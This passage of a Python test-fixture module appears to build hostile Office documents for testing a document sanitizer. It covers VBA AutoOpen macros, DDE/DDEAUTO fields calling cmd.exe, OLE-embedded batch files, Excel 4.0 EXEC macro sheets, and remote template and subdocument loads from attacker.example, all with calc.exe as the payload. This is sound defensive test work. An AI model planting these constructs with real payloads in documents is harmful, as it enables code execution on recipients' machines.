"""Build hostile Office packages with zipfile and XML strings; read outputs back independently.

Nothing here shares code with ``sanitizers.ooxml``.  VBA projects, OLE objects and ActiveX
binaries are real compound files written by a small CFB writer, so that oletools (a
test-only dependency) recognises them in the inputs; the same tools, an independent
zipfile walk and plain ElementTree then judge the outputs.
"""

from __future__ import annotations

import io
import itertools
import math
import posixpath
import re
import struct
import warnings
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

with warnings.catch_warnings():
    # oletools still calls pyparsing's pre-3.0 names, which warn on import
    warnings.simplefilter("ignore", DeprecationWarning)
    from oletools import msodde, oleid, oleobj, olevba
    from oletools.ooxml import XmlParser

# -- namespaces, relationship and content types ------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
P = "http://schemas.openxmlformats.org/presentationml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
V = "urn:schemas-microsoft-com:vml"
OFFICE = "urn:schemas-microsoft-com:office:office"
XV = "urn:schemas-microsoft-com:office:excel"
W14 = "http://schemas.microsoft.com/office/word/2010/wordml"
WP14 = "http://schemas.microsoft.com/office/word/2010/wordprocessingDrawing"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MSREL = "http://schemas.microsoft.com/office/2006/relationships/"
DOC = "application/vnd.openxmlformats-officedocument."

WORD_MAIN = DOC + "wordprocessingml.document.main+xml"
WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
EXCEL_MAIN = DOC + "spreadsheetml.sheet.main+xml"
EXCEL_MACRO_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
EXCEL_BINARY_MAIN = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
POWERPOINT_MAIN = DOC + "presentationml.presentation.main+xml"
POWERPOINT_MACRO_MAIN = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
VBA_CONTENT_TYPE = "application/vnd.ms-office.vbaProject"
OLE_CONTENT_TYPE = DOC + "oleObject"

#: Text every base document carries, Japanese included.
TEXTS = ("住民税の通知について", "Residents' tax notice", "とうきょう東京都 第3号")
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)


# -- compound files (CFB) ---------------------------------------------------------

_SECTOR = 512
_MINI = 64
_FREE, _END, _FAT_SECTOR, _NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A version 3 compound file holding ``streams`` ("Storage/Stream" paths, < 4 KiB each).

    Every stream lives in the mini stream; the siblings of a storage form a sorted chain
    of right children, which is a valid (if unbalanced) directory tree.
    """
    assert all(len(data) < 4096 for data in streams.values())
    children: dict[str, list[str]] = {"": []}
    for path in streams:
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            node, parent = "/".join(parts[:depth]), "/".join(parts[: depth - 1])
            children.setdefault(node, [])
            if node not in children[parent]:
                children[parent].append(node)
    for siblings in children.values():
        siblings.sort(key=lambda n: (len(n.rsplit("/", 1)[-1]), n.rsplit("/", 1)[-1].upper()))
    order = list(children)  # the root first
    index = {node: i for i, node in enumerate(order)}
    right = {a: b for siblings in children.values() for a, b in itertools.pairwise(siblings)}

    mini = bytearray()
    mini_fat: list[int] = []
    starts: dict[str, int] = {}
    for node, data in streams.items():
        count = math.ceil(len(data) / _MINI)
        starts[node] = len(mini) // _MINI if count else _END
        mini_fat += [len(mini_fat) + i + 1 for i in range(count - 1)] + [_END] * bool(count)
        mini += data + bytes(count * _MINI - len(data))
    directory_sectors = math.ceil(len(order) / 4)
    mini_fat_sectors = math.ceil(len(mini_fat) * 4 / _SECTOR)
    mini_sectors = math.ceil(len(mini) / _SECTOR)
    assert 1 + directory_sectors + mini_fat_sectors + mini_sectors <= _SECTOR // 4  # one FAT sector
    fat = [_FAT_SECTOR]
    for count in (directory_sectors, mini_fat_sectors, mini_sectors):
        fat += [len(fat) + i + 1 for i in range(count - 1)] + [_END] * bool(count)
    fat += [_FREE] * (_SECTOR // 4 - len(fat))
    mini_fat_start = 1 + directory_sectors if mini_fat else _END
    mini_start = 1 + directory_sectors + mini_fat_sectors if mini else _END

    def entry(node: str) -> bytes:
        name = (node.rsplit("/", 1)[-1] if node else "Root Entry").encode("utf-16-le") + b"\0\0"
        kind = 5 if not node else 2 if node in streams else 1
        kids = children.get(node, [])
        start, size = (
            (mini_start, len(mini)) if not node else (starts.get(node, 0), len(streams.get(node, b"")))
        )
        return (
            name.ljust(64, b"\0")
            + struct.pack(
                "<HBBIII",
                len(name),
                kind,
                1,  # black
                _NO_STREAM,
                index[right[node]] if node in right else _NO_STREAM,
                index[kids[0]] if kids else _NO_STREAM,
            )
            + bytes(36)  # CLSID, state bits, times
            + struct.pack("<IQ", start, size)
        )

    directory = b"".join(entry(node) for node in order)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<9I", 0, 1, 1, 0, 4096, mini_fat_start, mini_fat_sectors, _END, 0)
        + struct.pack("<109I", 0, *([_FREE] * 108))
    )
    return b"".join(
        (
            header,
            struct.pack(f"<{_SECTOR // 4}I", *fat),
            directory.ljust(directory_sectors * _SECTOR, b"\0"),
            struct.pack(f"<{len(mini_fat)}I", *mini_fat).ljust(mini_fat_sectors * _SECTOR, b"\xff"),
            bytes(mini).ljust(mini_sectors * _SECTOR, b"\0"),
        )
    )


def _ovba_compress(data: bytes) -> bytes:
    """MS-OVBA compression using literal tokens only (valid, if not small)."""
    assert len(data) <= 3600  # one chunk of literals must fit in 4096 bytes
    body = b"".join(b"\0" + data[i : i + 8] for i in range(0, len(data), 8))
    return b"\x01" + struct.pack("<H", 0xB000 | (len(body) - 1)) + body


def _record(record_id: int, data: bytes) -> bytes:
    return struct.pack("<HI", record_id, len(data)) + data


VBA_SOURCE = 'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n    Shell "calc.exe"\r\nEnd Sub\r\n'


def vba_project(source: str = VBA_SOURCE) -> bytes:
    """A vbaProject.bin with one standard module that olevba extracts (MS-OVBA 2.3.4.2)."""
    name = b"Module1"
    unicode_name = "Module1".encode("utf-16-le")
    directory = b"".join(
        (
            _record(0x01, struct.pack("<I", 1)),
            _record(0x02, struct.pack("<I", 0x409)),
            _record(0x14, struct.pack("<I", 0x409)),
            _record(0x03, struct.pack("<H", 1252)),
            _record(0x04, b"VBAProject"),
            _record(0x05, b"") + struct.pack("<HI", 0x40, 0),
            _record(0x06, b"") + struct.pack("<HI", 0x3D, 0),
            _record(0x07, struct.pack("<I", 0)),
            _record(0x08, struct.pack("<I", 0)),
            struct.pack("<HIIH", 0x09, 4, 1, 0),
            _record(0x0C, b"") + struct.pack("<HI", 0x3C, 0),
            struct.pack("<HIH", 0x0F, 2, 1),
            struct.pack("<HIH", 0x13, 2, 0xFFFF),
            _record(0x19, name),
            _record(0x47, unicode_name),
            _record(0x1A, name) + struct.pack("<HI", 0x32, len(unicode_name)) + unicode_name,
            _record(0x1C, b"") + struct.pack("<HI", 0x48, 0),
            _record(0x31, struct.pack("<I", 0)),
            _record(0x1E, struct.pack("<I", 0)),
            _record(0x2C, struct.pack("<H", 0xFFFF)),
            struct.pack("<HI", 0x21, 0),
            struct.pack("<HI", 0x2B, 0),
            struct.pack("<HI", 0x10, 0),
        )
    )
    return compound_file(
        {
            "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\nName="VBAProject"\r\n',
            "VBA/_VBA_PROJECT": struct.pack("<HHBH", 0x61CC, 0xFFFF, 0, 0),
            "VBA/dir": _ovba_compress(directory),
            "VBA/Module1": _ovba_compress(source.encode("cp1252")),
        }
    )


def ole_object() -> bytes:
    """An embedded OLE package (what "Insert > Object" stores): a file inside a CFB."""
    payload = b"@echo off\r\ncalc.exe\r\n"
    native = b"\x02\x00run.bat\0C:\\run.bat\0\x00\x00\x03\x00" + struct.pack("<I", 11) + b"C:\\run.bat\0"
    native += struct.pack("<I", len(payload)) + payload
    return compound_file(
        {"\x01Ole10Native": struct.pack("<I", len(native)) + native, "\x01CompObj": bytes(32)}
    )


def encrypted_office() -> bytes:
    """What Office writes for a password-protected document: a CFB, not a ZIP."""
    return compound_file({"EncryptionInfo": bytes(64), "EncryptedPackage": bytes(128)})


# -- packages ---------------------------------------------------------------------


@dataclass
class Relationship:
    id: str
    type: str
    target: str
    external: bool = False


@dataclass
class Package:
    """An OOXML package in the making: parts with content types, and relationships."""

    main: str
    parts: dict[str, tuple[str | None, bytes]] = field(default_factory=dict)
    relationships: dict[str, list[Relationship]] = field(default_factory=dict)
    raw_members: list[tuple[str, bytes]] = field(default_factory=list)

    def add(self, name: str, data: bytes | str, content_type: str | None = None) -> None:
        self.parts[name] = (content_type, data.encode("utf-8") if isinstance(data, str) else data)

    def relate(
        self, source: str, rel_type: str, target: str, *, external: bool = False, rid: str = ""
    ) -> str:
        """Add a relationship from ``source`` ("" = the package); returns its id."""
        existing = self.relationships.setdefault(source, [])
        rid = rid or f"rId{len(existing) + 100}"
        existing.append(Relationship(rid, rel_type, target, external))
        return rid

    def text(self, name: str) -> str:
        return self.parts[name][1].decode("utf-8")

    def replace(self, name: str, old: str, new: str) -> None:
        text = self.text(name)
        assert old in text, f"{old!r} not in {name}"
        self.add(name, text.replace(old, new, 1), self.parts[name][0])

    def content_types_xml(self) -> bytes:
        overrides = "".join(
            f'<Override PartName="/{name}" ContentType="{ct}"/>' for name, (ct, _) in self.parts.items() if ct
        )
        return (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="png" ContentType="image/png"/>'
            f"{overrides}</Types>"
        ).encode()

    def members(self) -> Iterator[tuple[str, bytes]]:
        yield "[Content_Types].xml", self.content_types_xml()
        for source, relationships in self.relationships.items():
            folder, base = source.rpartition("/")[0], source.rpartition("/")[2]
            name = (
                f"{folder}/_rels/{base}.rels"
                if folder
                else ("_rels/.rels" if not base else f"_rels/{base}.rels")
            )
            rows = "".join(
                f'<Relationship Id="{r.id}" Type="{r.type}" Target="{_escape(r.target)}"'
                + (' TargetMode="External"' if r.external else "")
                + "/>"
                for r in relationships
            )
            yield (
                name,
                (
                    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                    f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}'
                    "</Relationships>"
                ).encode(),
            )
        for name, (_, data) in self.parts.items():
            yield name, data
        yield from self.raw_members

    def write(self, path: Path) -> Path:
        members = sorted(self.members(), key=lambda m: (m[0] != "[Content_Types].xml", m[0] != "_rels/.rels"))
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in members:
                archive.writestr(name, data)
        return path


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")


_CORE = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
    "<dc:title>市報 4月号</dc:title><dc:creator>山田 太郎</dc:creator>"
    "<cp:lastModifiedBy>総務課 佐藤</cp:lastModifiedBy>"
    '<dcterms:created xsi:type="dcterms:W3CDTF">2024-04-01T09:00:00Z</dcterms:created>'
    "</cp:coreProperties>"
)
_APP = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
    "<Application>Microsoft Office Word</Application><Company>○○市役所</Company>"
    "<HyperlinkBase>\\\\fileserver\\share\\</HyperlinkBase></Properties>"
)


def _with_properties(package: Package) -> Package:
    package.add("docProps/core.xml", _CORE, "application/vnd.openxmlformats-package.core-properties+xml")
    package.add("docProps/app.xml", _APP, DOC + "extended-properties+xml")
    package.relate(
        "",
        "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
        "docProps/core.xml",
    )
    package.relate("", REL + "extended-properties", "docProps/app.xml")
    return package


def paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


WORD_ROOT = (
    f'<w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:mc="{MC}" xmlns:v="{V}" xmlns:o="{OFFICE}" '
    f'xmlns:w14="{W14}" xmlns:wp14="{WP14}" mc:Ignorable="w14 wp14">'
)


def word(texts: tuple[str, ...] = TEXTS) -> Package:
    package = Package("word/document.xml")
    body = "".join(paragraph(t) for t in texts)
    package.add(
        "word/document.xml",
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{WORD_ROOT}<w:body>{body}'
        '<w:p w14:paraId="1A2B3C4D"><w:r><w:t>end</w:t></w:r></w:p><w:sectPr/></w:body></w:document>',
        WORD_MAIN,
    )
    package.add(
        "word/settings.xml",
        f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:zoom w:percent="100"/>'
        '<w:rsids><w:rsidRoot w:val="00A1B2C3"/></w:rsids></w:settings>',
        DOC + "wordprocessingml.settings+xml",
    )
    package.add("word/styles.xml", f'<w:styles xmlns:w="{W}"/>', DOC + "wordprocessingml.styles+xml")
    package.relate("", REL + "officeDocument", "word/document.xml")
    package.relate("word/document.xml", REL + "settings", "settings.xml")
    package.relate("word/document.xml", REL + "styles", "styles.xml")
    return _with_properties(package)


def excel(texts: tuple[str, ...] = TEXTS) -> Package:
    package = Package("xl/workbook.xml")
    strings = "".join(f"<si><t>{t}</t></si>" for t in texts)
    rows = "".join(f'<row r="{i + 1}"><c r="A{i + 1}" t="s"><v>{i}</v></c></row>' for i in range(len(texts)))
    package.add(
        "xl/workbook.xml",
        f'<workbook xmlns="{S}" xmlns:r="{R}"><bookViews><workbookView activeTab="0"/></bookViews>'
        '<sheets><sheet name="通知" sheetId="1" r:id="rIdSheet1"/></sheets></workbook>',
        EXCEL_MAIN,
    )
    package.add(
        "xl/worksheets/sheet1.xml",
        f'<worksheet xmlns="{S}" xmlns:r="{R}"><sheetData>{rows}'
        f'<row r="9"><c r="B9"><f>SUM(1,2)</f><v>3</v></c></row></sheetData></worksheet>',
        DOC + "spreadsheetml.worksheet+xml",
    )
    package.add(
        "xl/sharedStrings.xml",
        f'<sst xmlns="{S}" count="{len(texts)}" uniqueCount="{len(texts)}">{strings}</sst>',
        DOC + "spreadsheetml.sharedStrings+xml",
    )
    package.relate("", REL + "officeDocument", "xl/workbook.xml")
    package.relate("xl/workbook.xml", REL + "worksheet", "worksheets/sheet1.xml", rid="rIdSheet1")
    package.relate("xl/workbook.xml", REL + "sharedStrings", "sharedStrings.xml")
    return _with_properties(package)


def powerpoint(texts: tuple[str, ...] = TEXTS) -> Package:
    package = Package("ppt/presentation.xml")
    shapes = "".join(
        f'<p:sp><p:nvSpPr><p:cNvPr id="{i + 2}" name="t{i}"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/>'
        f"<p:txBody><a:bodyPr/><a:p><a:r><a:t>{t}</a:t></a:r></a:p></p:txBody></p:sp>"
        for i, t in enumerate(texts)
    )
    tree = '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
    namespaces = f'xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}"'
    package.add(
        "ppt/presentation.xml",
        f'<p:presentation {namespaces}><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rIdM"/>'
        '</p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rIdS"/></p:sldIdLst>'
        '<p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>',
        POWERPOINT_MAIN,
    )
    package.add(
        "ppt/slides/slide1.xml",
        f"<p:sld {namespaces}><p:cSld><p:spTree>{tree}{shapes}</p:spTree></p:cSld></p:sld>",
        DOC + "presentationml.slide+xml",
    )
    package.add(
        "ppt/slideLayouts/slideLayout1.xml",
        f"<p:sldLayout {namespaces}><p:cSld><p:spTree>{tree}</p:spTree></p:cSld></p:sldLayout>",
        DOC + "presentationml.slideLayout+xml",
    )
    package.add(
        "ppt/slideMasters/slideMaster1.xml",
        f"<p:sldMaster {namespaces}><p:cSld><p:spTree>{tree}</p:spTree></p:cSld>"
        '<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rIdL"/></p:sldLayoutIdLst></p:sldMaster>',
        DOC + "presentationml.slideMaster+xml",
    )
    package.add("ppt/theme/theme1.xml", f'<a:theme xmlns:a="{A}" name="Office"/>', DOC + "theme+xml")
    package.relate("", REL + "officeDocument", "ppt/presentation.xml")
    package.relate("ppt/presentation.xml", REL + "slideMaster", "slideMasters/slideMaster1.xml", rid="rIdM")
    package.relate("ppt/presentation.xml", REL + "slide", "slides/slide1.xml", rid="rIdS")
    package.relate("ppt/slides/slide1.xml", REL + "slideLayout", "../slideLayouts/slideLayout1.xml")
    package.relate(
        "ppt/slideLayouts/slideLayout1.xml", REL + "slideMaster", "../slideMasters/slideMaster1.xml"
    )
    package.relate(
        "ppt/slideMasters/slideMaster1.xml",
        REL + "slideLayout",
        "../slideLayouts/slideLayout1.xml",
        rid="rIdL",
    )
    package.relate("ppt/slideMasters/slideMaster1.xml", REL + "theme", "../theme/theme1.xml")
    return _with_properties(package)


KINDS: dict[str, Callable[[], Package]] = {"docx": word, "xlsx": excel, "pptx": powerpoint}
MACRO_MAIN = {"docx": WORD_MACRO_MAIN, "xlsx": EXCEL_MACRO_MAIN, "pptx": POWERPOINT_MACRO_MAIN}
Builder = Callable[[Package], None]


def build(path: Path, kind: str, *builders: Builder) -> Path:
    package = KINDS[kind]()
    for builder in builders:
        builder(package)
    return package.write(path)


def _folder(package: Package) -> str:
    return package.main.split("/")[0]


def append_to_body(package: Package, markup: str) -> None:
    """Insert markup where the main part's content goes (body, sheet data, shape tree)."""
    anchors = {"docx": "<w:sectPr/>", "xlsx": "</worksheet>", "pptx": "</p:spTree></p:cSld></p:sld>"}
    kind = {"word": "docx", "xl": "xlsx", "ppt": "pptx"}[_folder(package)]
    target = {"docx": package.main, "xlsx": "xl/worksheets/sheet1.xml", "pptx": "ppt/slides/slide1.xml"}[kind]
    package.replace(target, anchors[kind], markup + anchors[kind])


# -- hostile constructs ---------------------------------------------------------------


def macros(package: Package) -> None:
    """A VBA project with AutoOpen, related from the main part; the main type macro-enabled."""
    folder = _folder(package)
    kind = {"word": "docx", "xl": "xlsx", "ppt": "pptx"}[folder]
    package.parts[package.main] = (MACRO_MAIN[kind], package.parts[package.main][1])
    package.add(f"{folder}/vbaProject.bin", vba_project(), VBA_CONTENT_TYPE)
    package.relate(package.main, MSREL + "vbaProject", "vbaProject.bin")
    if folder == "word":
        package.add(
            "word/vbaData.xml",
            '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
            "application/vnd.ms-word.vbaData+xml",
        )
        package.relate("word/vbaProject.bin", MSREL + "wordVbaData", "vbaData.xml")


def hidden_vba(package: Package) -> None:
    """A vbaProject.bin no relationship mentions, in a package that says it has no macros."""
    package.raw_members.append((f"{_folder(package)}/vbaProject.bin", vba_project()))


def attached_template(package: Package) -> None:
    package.replace("word/settings.xml", "</w:settings>", '<w:attachedTemplate r:id="rIdT"/></w:settings>')
    package.relate(
        "word/settings.xml",
        REL + "attachedTemplate",
        "http://attacker.example/t.dotm",
        external=True,
        rid="rIdT",
    )


def complex_field(instruction_runs: list[str], result: str) -> str:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in instruction_runs
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def dde_fields(package: Package) -> None:
    """DDEAUTO split over runs, a simple DDE field, and one in lower case with quotes."""
    markup = complex_field([" DDE", 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '], "DDE結果")
    markup += '<w:p><w:fldSimple w:instr=" DDE cmd.exe &quot;/c calc&quot;"><w:r><w:t>簡易</w:t></w:r></w:fldSimple></w:p>'
    markup += complex_field(['"ddeauto" c:\\\\x.exe'], "小文字")
    append_to_body(package, markup)


def include_fields(package: Package) -> None:
    markup = complex_field([' INCLUDEPICTURE "http://attacker.example/t.png" \\d '], "画像")
    markup += complex_field([' INCLUDETEXT "\\\\\\\\server\\\\share\\\\a.docx" '], "本文")
    markup += '<w:p><w:fldSimple w:instr=" LINK Excel.Sheet.8 &quot;C:\\\\a.xls&quot; "><w:r><w:t>リンク</w:t></w:r></w:fldSimple></w:p>'
    append_to_body(package, markup)


def computed_field(package: Package) -> None:
    """The outer field's name is produced by a nested QUOTE field, so it cannot be read."""
    nested = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE "DDEAUTO" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDEAUTO</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    markup = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{nested}'
        '<w:r><w:instrText> c:\\\\cmd.exe "/c calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>計算</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    append_to_body(package, markup)


def alt_chunk_and_subdocument(package: Package) -> None:
    package.add("word/afchunk.mht", b"MIME-Version: 1.0\r\n\r\n<script>alert(1)</script>", "message/rfc822")
    rid = package.relate("word/document.xml", REL + "aFChunk", "afchunk.mht")
    sub = package.relate(
        "word/document.xml", REL + "subDocument", "http://attacker.example/sub.docx", external=True
    )
    append_to_body(package, f'<w:altChunk r:id="{rid}"/><w:subDoc r:id="{sub}"/>')


def _relative(source: str, target: str) -> str:
    return posixpath.relpath(target, posixpath.dirname(source))


_CONTENT_PART = {
    "word": "word/document.xml",
    "xl": "xl/worksheets/sheet1.xml",
    "ppt": "ppt/slides/slide1.xml",
}


def ole_embedding(package: Package) -> None:
    """An OLE package object with its preview picture, placed as each application does."""
    folder = _folder(package)
    source = _CONTENT_PART[folder]
    package.add(f"{folder}/embeddings/oleObject1.bin", ole_object(), OLE_CONTENT_TYPE)
    rid = package.relate(source, REL + "oleObject", _relative(source, f"{folder}/embeddings/oleObject1.bin"))
    package.add(f"{folder}/media/image1.png", PNG)
    image = package.relate(source, REL + "image", _relative(source, f"{folder}/media/image1.png"))
    if folder == "word":
        append_to_body(
            package,
            f'<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:60pt;height:40pt">'
            f'<v:imagedata r:id="{image}" o:title=""/></v:shape>'
            f'<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" r:id="{rid}"/>'
            "</w:object></w:r></w:p>",
        )
    elif folder == "xl":
        append_to_body(
            package, f'<oleObjects><oleObject progId="Package" shapeId="1025" r:id="{rid}"/></oleObjects>'
        )
    else:
        append_to_body(
            package,
            '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="Object"/><p:cNvGraphicFramePr/><p:nvPr/>'
            '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></p:xfrm><a:graphic>'
            '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
            f'<p:oleObj spid="_x0000_s1026" name="Package" r:id="{rid}" progId="Package"><p:embed/></p:oleObj>'
            "</a:graphicData></a:graphic></p:graphicFrame>",
        )


def activex(package: Package) -> None:
    """An ActiveX control: XML description plus its persisted binary, both in the package."""
    folder = _folder(package)
    source = _CONTENT_PART[folder]
    package.add(
        f"{folder}/activeX/activeX1.xml",
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        f'xmlns:r="{R}" ax:classid="{{8BD21D40-EC42-11CE-9E0D-00AA006002F3}}" ax:persistence="persistStorage" r:id="rId1"/>',
        "application/vnd.ms-office.activeX+xml",
    )
    package.add(
        f"{folder}/activeX/activeX1.bin",
        compound_file({"contents": b"\x00" * 40}),
        "application/vnd.ms-office.activeX",
    )
    package.relate(
        f"{folder}/activeX/activeX1.xml", MSREL + "activeXControlBinary", "activeX1.bin", rid="rId1"
    )
    rid = package.relate(source, REL + "control", _relative(source, f"{folder}/activeX/activeX1.xml"))
    if folder == "word":
        append_to_body(
            package,
            f'<w:p><w:r><w:object><w:control r:id="{rid}" w:name="CommandButton1"/></w:object></w:r></w:p>',
        )
    elif folder == "xl":
        append_to_body(
            package, f'<controls><control shapeId="1026" r:id="{rid}" name="CommandButton1"/></controls>'
        )
    else:
        package.replace(
            "ppt/slides/slide1.xml",
            "</p:cSld>",
            f'<p:controls><p:control spid="_x0000_s1027" name="Btn" r:id="{rid}"/></p:controls></p:cSld>',
        )


def xlm_macro_sheet(package: Package) -> None:
    """An Excel 4.0 macro sheet listed first, with Auto_Open and a name scoped to sheet 2."""
    package.add(
        "xl/macrosheets/sheet1.xml",
        f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{S}">'
        '<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>',
        "application/vnd.ms-excel.macrosheet+xml",
    )
    package.relate("xl/workbook.xml", MSREL + "xlMacrosheet", "macrosheets/sheet1.xml", rid="rIdMacro")
    package.replace(
        "xl/workbook.xml", "<sheets>", '<sheets><sheet name="Macro1" sheetId="2" r:id="rIdMacro"/>'
    )
    package.replace("xl/workbook.xml", 'activeTab="0"', 'activeTab="1"')
    package.replace(
        "xl/workbook.xml",
        "</sheets>",
        '</sheets><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
        '<definedName name="Print_Area" localSheetId="1">通知!$A$1:$A$3</definedName></definedNames>',
    )


def external_book(package: Package, target: str, sheet: str, cells: str) -> None:
    """A link to another workbook at ``target`` (its ``sheet`` caching A1 = 42), and ``cells``
    (row XML) appended to the first sheet, whose formulas may read it as ``[1]``."""
    package.add(
        "xl/externalLinks/externalLink1.xml",
        f'<externalLink xmlns="{S}" xmlns:r="{R}"><externalBook r:id="rId1"><sheetNames>'
        f'<sheetName val="{sheet}"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1">'
        '<cell r="A1"><v>42</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>',
        DOC + "spreadsheetml.externalLink+xml",
    )
    package.relate("xl/externalLinks/externalLink1.xml", REL + "externalLinkPath", target, external=True,
                   rid="rId1")  # fmt: skip
    refer_to_the_external_link(package)
    package.replace("xl/worksheets/sheet1.xml", "</sheetData>", f"{cells}</sheetData>")


def refer_to_the_external_link(package: Package) -> None:
    """The workbook's reference to xl/externalLinks/externalLink1.xml, its link ``[1]``."""
    rid = package.relate("xl/workbook.xml", REL + "externalLink", "externalLinks/externalLink1.xml")
    package.replace(
        "xl/workbook.xml",
        "</sheets>",
        f'</sheets><externalReferences><externalReference r:id="{rid}"/></externalReferences>',
    )


def dde_link(package: Package) -> None:
    """An external link part with a DDE server, and a cell formula using it."""
    package.add(
        "xl/externalLinks/externalLink1.xml",
        f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems>'
        '<ddeItem name="A0"/></ddeItems></ddeLink></externalLink>',
        DOC + "spreadsheetml.externalLink+xml",
    )
    refer_to_the_external_link(package)
    package.replace(
        "xl/worksheets/sheet1.xml",
        "</sheetData>",
        '<row r="10"><c r="C10"><f>[1]!\'A0\'</f><v>7</v></c>'
        "<c r=\"D10\"><f>cmd|' /c calc'!A0</f><v>0</v></c></row></sheetData>",
    )


def shape_macro(package: Package) -> None:
    """A drawing shape that runs a macro when clicked (Assign Macro in Excel)."""
    package.add(
        "xl/drawings/drawing1.xml",
        '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
        f'xmlns:a="{A}"><xdr:oneCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff>'
        '<xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="1" cy="1"/>'
        '<xdr:sp macro="[0]!Evil" textlink=""><xdr:nvSpPr><xdr:cNvPr id="2" name="Button"/><xdr:cNvSpPr/>'
        "</xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>",
